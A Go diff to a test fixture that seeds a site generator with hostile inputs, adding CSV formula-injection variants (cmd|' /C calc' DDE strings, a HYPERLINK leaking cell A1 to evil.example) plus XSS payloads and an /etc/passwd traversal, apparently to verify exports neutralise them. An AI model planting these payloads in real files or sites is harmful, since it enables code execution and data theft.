@@ -51,6 +51,12 @@ var Corpus = []Payload{
 	{"CSV minus", `-1+1`},
 	{"CSV at", `@SUM(1+1)*cmd|' /C calc'!A0`},
 	{"CSV tab", "\t=1+1"},
+	// Spreadsheets skip blanks before a formula, and encoding/csv drops a
+	// lone CR; NFKC folds the full-width ＝ into = (issue 23).
+	{"CSV carriage return", "\r=cmd|' /C calc'!A0"},
+	{"CSV line feed", "\n+cmd|' /C calc'!A0"},
+	{"CSV space", "  @SUM(1+1)*cmd|' /C calc'!A0"},
+	{"CSV full-width equals", "\uff1dHYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"},
 	{"Markdown link and image", `[click](javascript:alert(1)) ![img](javascript:alert(1)) <javascript:alert(1)> [ent](&#106;avascript:alert(1))`},
 	{"path traversal", `../../../../etc/passwd`},
 	{"long", strings.Repeat("A", 5000) + `<script>alert(1)</script>`},
@@ -99,6 +105,16 @@ var (
 	// PM2Title starts with '=': postmortems.csv must neutralise it.
 	PM2Title = `=HYPERLINK("http://evil.example","x")`
 
+	// Formulas are text cells that a spreadsheet would run once blanks and
+	// compatibility forms are looked past (issue 23). Each reaches a
+	// download of its own: SLO2Name slo.csv and launches.csv (a guardrail),
+	// AreaName and TeamName areas.csv, PM2Severity postmortems.csv (the
+	// corpus reaches releases.csv).
+	SLO2Name    = "\uff0bcmd|' /C calc'!A0 latency"
+	AreaName    = " \uff20SUM(1+1) area"
+	TeamName    = "\r\n-cmd team"
+	PM2Severity = "\ufe66cmd|' /C calc'!A0"
+
 	// Decision records (content/decisions): a title, deciders and a status
 	// word; the second record supersedes the first through a link.
 	DecisionTitle   = `Use <script>alert(1)</script> "'><svg onload=alert(1)> sessions`
@@ -125,6 +141,16 @@ var (
 	LaunchFlag   = `=HYPERLINK("http://evil.example/flag")`
 	LaunchCohort = `<img src=x onerror=alert(1)> staff`
 	LaunchCanary = `</script><script>alert(1)</script>`
+
+	// An experiment: its title, its hypothesis (the first paragraph under
+	// "Hypothesis"), a treatment variant that starts with '=' (a cell of
+	// experiments.csv), a metric named like markup (a column of its data,
+	// a table row, a chart title) and a decision that disagrees (a flag).
+	ExpTitle      = `Bigger <script>alert(1)</script> button "'><svg onload=alert(1)>`
+	ExpHypothesis = `We believe <img src=x onerror=alert(1)> will win __f__function(){alert(1)}__f__`
+	ExpVariant    = `=HYPERLINK("http://evil.example","v")`
+	ExpMetric     = `<img src=x onerror=alert(1)>`
+	ExpGuardrail  = `"'><svg onload=alert(1)>`
 )
 
 // Texts are the corpus texts.
@@ -158,9 +184,9 @@ func WriteSite(t testing.TB) string {
 	write("site.toml", siteTOML())
 	writeStore(t, filepath.Join(dir, "content", "data", "store"))
 	write("content/metrics/m.csv", metricsCSV(t))
-	write("content/postmortems/2025-03-01-hostile.md", postmortem(PMTitle, "2025-03-01T10:00:00Z", Corpus[0].Text))
+	write("content/postmortems/2025-03-01-hostile.md", postmortem(PMTitle, PMSeverity, "2025-03-01T10:00:00Z", Corpus[0].Text))
 	// A file name is data too: quotes and angle brackets are legal on Linux.
-	write(`content/postmortems/2025-04-02-"><img src=x onerror=alert(1)>.md`, postmortem(PM2Title, "2025-04-02T08:00:00Z", Corpus[1].Text))
+	write(`content/postmortems/2025-04-02-"><img src=x onerror=alert(1)>.md`, postmortem(PM2Title, PM2Severity, "2025-04-02T08:00:00Z", Corpus[1].Text))
 	write("content/decisions/0001-hostile.md", "# 1. "+DecisionTitle+"\n\nDate: 2024-01-02\n\n## Status\n\n"+DecisionStatus+
 		"\n\nSuperseded by [2. x](0002-hostile.md)\n\n## Context\n\n"+markdownBody())
 	write("content/decisions/0002-hostile.md", "---\nstatus: accepted\ndate: 2024-02-03\ndeciders: "+Quote(DecisionDecider)+"\n---\n\n# "+
@@ -173,7 +199,45 @@ func WriteSite(t testing.TB) string {
 	write("content/_index.md", "# Home <script>alert(1)</script>\n\n"+markdownBody())
 	write("content/postmortems/_index.md", "# Postmortems <img src=x onerror=alert(1)>\n\n"+markdownBody())
 	write(`content/notes/"'><svg onload=alert(1)>.md`, "+++\ntitle = "+Quote(Corpus[2].Text)+"\ndescription = "+Quote(Corpus[9].Text)+"\n+++\n"+markdownBody())
+	write("content/experiments/hostile.md", experiment())
+	write("content/experiments/hostile.csv", experimentCSV(t))
 	return dir
+}
+
+// experiment is an experiment document whose every text is hostile: it
+// ran over February 2025 (so the 2025-Q1 review lists it), was shipped
+// without a win.
+func experiment() string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "---\ntitle: %s\ndata: content/experiments/hostile.csv\nunit: %s\nexposure: at\n", Quote(ExpTitle), Quote(Corpus[0].Text))
+	fmt.Fprintf(&b, "weights: {control: 1, %s: 1}\n", Quote(ExpVariant))
+	fmt.Fprintf(&b, "primary: %s\nguardrails: [%s]\n", Quote(ExpMetric+":up"), Quote(ExpGuardrail+":down"))
+	b.WriteString("start: 2025-02-01\nend: 2025-03-01\ndecision: shipped\n---\n\n")
+	fmt.Fprintf(&b, "# %s\n\n## Hypothesis\n\n%s\n\n", ExpTitle, ExpHypothesis)
+	b.WriteString(markdownBody())
+	return b.String()
+}
+
+// experimentCSV is the experiment's units: 40 a variant over February,
+// unit ids hostile too.
+func experimentCSV(t testing.TB) string {
+	var buf bytes.Buffer
+	w := csv.NewWriter(&buf)
+	w.Write([]string{Corpus[0].Text, "variant", "at", ExpMetric, ExpGuardrail})
+	for i := range 80 {
+		v := "control"
+		if i%2 == 1 {
+			v = ExpVariant
+		}
+		at := time.Date(2025, 2, 1+i%28, 12, 0, 0, 0, time.UTC).Format(time.RFC3339)
+		w.Write([]string{fmt.Sprintf("%s-%d", Corpus[i%len(Corpus)].Text[:min(20, len(Corpus[i%len(Corpus)].Text))], i), v, at,
+			fmt.Sprint((i / 2) % 3 % 2), fmt.Sprint(i % 5)})
+	}
+	w.Flush()
+	if err := w.Error(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.String()
 }
 
 func siteTOML() string {
@@ -190,6 +254,8 @@ func siteTOML() string {
 	fmt.Fprintf(&b, "[feedback]\nlabels = [\"bug\", %s]\n\n", Quote(FeedbackLabel))
 	b.WriteString("[[metrics.source]]\nname = \"m\"\nfile = \"content/metrics/m.csv\"\nformat = \"csv\"\n\n")
 	fmt.Fprintf(&b, "[[slo]]\nname = %s\ndescription = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLOName), Quote(SLODescription))
+	fmt.Fprintf(&b, "[[slo]]\nname = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLO2Name))
+	fmt.Fprintf(&b, "[areas.labels]\n%s = [\"bug\"]\n\n[teams]\n%s = [%s]\n\n", Quote(AreaName), Quote(TeamName), Quote(AreaName))
 	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = %s\nunit = %s\ntarget = 100\nstage = %s\n\n", Quote(KPIName), Quote("m:"+SeriesColumn), Quote(KPIUnit), Quote(Stages[0]))
 	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = \"m:total\"\nstage = %s\n\n", Quote(KPI2Name), Quote(Stages[1]))
 	b.WriteString("[funnel]\nstages = [")
@@ -226,12 +292,12 @@ func markdownBody() string {
 	return b.String()
 }
 
-func postmortem(title, started, extra string) string {
+func postmortem(title, severity, started, extra string) string {
 	s, _ := time.Parse(time.RFC3339, started)
 	at := func(d time.Duration) string { return s.Add(d).Format(time.RFC3339) }
 	var b strings.Builder
 	b.WriteString("---\n")
-	fmt.Fprintf(&b, "title: %s\nseverity: %s\nstatus: %s\nrepo: %s\nrelease: %s\n", Quote(title), Quote(PMSeverity), Quote(PMStatus), Quote(Repos[0]), Quote(Corpus[0].Text))
+	fmt.Fprintf(&b, "title: %s\nseverity: %s\nstatus: %s\nrepo: %s\nrelease: %s\n", Quote(title), Quote(severity), Quote(PMStatus), Quote(Repos[0]), Quote(Corpus[0].Text))
 	fmt.Fprintf(&b, "started: %s\ndetected: %s\nmitigated: %s\nresolved: %s\n", at(0), at(10*time.Minute), at(40*time.Minute), at(3*time.Hour))
 	fmt.Fprintf(&b, "services: [%s, %s]\ntags: [%s, %s]\n", Quote(PMService), Quote(extra), Quote(PMTag), Quote(Corpus[8].Text))
 	// It names the pre-mortem's risk and both decision records.
@@ -251,7 +317,7 @@ func launch() string {
 	var b strings.Builder
 	b.WriteString("---\n")
 	fmt.Fprintf(&b, "title: %s\nflag: %s\ncanary: %s\n", Quote(LaunchTitle), Quote(LaunchFlag), Quote("variant="+LaunchCanary))
-	fmt.Fprintf(&b, "guardrails: [%s, %s]\nreleases: [%s]\n", Quote("slo:"+SLOName), Quote("kpi:"+KPIName), Quote(Repos[0]+"@"+Corpus[0].Text))
+	fmt.Fprintf(&b, "guardrails: [%s, %s, %s]\nreleases: [%s]\n", Quote("slo:"+SLOName), Quote("kpi:"+KPIName), Quote("slo:"+SLO2Name), Quote(Repos[0]+"@"+Corpus[0].Text))
 	b.WriteString("stages:\n  - at: 2025-04-01 00:00\n    percent: 10\n")
 	fmt.Fprintf(&b, "  - at: 2025-04-15 00:00\n    cohort: %s\n", Quote(LaunchCohort))
 	b.WriteString("  - at: 2025-05-01 00:00\n    percent: 50\n  - at: 2025-07-01 00:00\n    percent: 100\n")
